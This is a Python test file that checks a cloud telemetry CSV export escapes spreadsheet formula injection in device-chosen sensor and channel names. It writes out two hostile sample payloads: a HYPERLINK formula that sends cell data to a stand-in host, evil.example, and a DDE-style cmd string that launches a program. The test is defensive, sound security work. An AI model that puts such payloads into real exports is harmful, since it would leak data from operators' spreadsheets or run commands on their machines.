"""cloud/export.py CSV: device-chosen text cannot become a spreadsheet formula (audit
csv_formula.py), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

from agent.wire.records import TelemetryBody
from cloud.export import write
from cloud.storage import StoredRecord

T = 1_700_000_000.0
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def stored(seq: int, sensor: str, values: dict[str, float]) -> StoredRecord:
    body = TelemetryBody(sensor, T, values).to_cbor()
    return StoredRecord("pump-01", seq, "telemetry", T, T, T, seq, body)


def test_formula_injection_in_sensor_and_channel_names_is_escaped() -> None:
    """Attack: a device names its sensor and channels with formulas; an operator opens the
    export in a spreadsheet. Every text cell starting with = + - @ tab or CR gets a leading '."""
    recs = [
        stored(1, FORMULA, {"=cmd|' /C calc'!A0": 1.0, "+x": 2.0, "@y": 3.0}),
        stored(2, "-s", {"\tz": -1.5, "plain": -2.0}),
    ]
    out = io.StringIO()
    assert write(recs, out, "csv") == 5
    cells = list(csv.DictReader(io.StringIO(out.getvalue())))
    for row in cells:
        for name in ("sensor", "channel"):
            assert row[name][0] not in "=+-@\t\r", row
    assert cells[0]["sensor"] == "'" + FORMULA
    assert [r["channel"] for r in cells[3:]] == ["'\tz", "plain"]
    assert [r["value"] for r in cells[3:]] == ["-1.5", "-2.0"]  # numbers as they are
    out = io.StringIO()
    write([stored(3, "s", {"\r=1+1": 1.0, "a\rb": 2.0})], out, "csv")
    # a bare CR (which the writer does not quote: readers took it for the end of a row) is
    # carried as a line feed, which it quotes
    assert ',"\'\n=1+1",' in out.getvalue()
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["channel"] for r in rows] == ["'\n=1+1", "a\nb"]
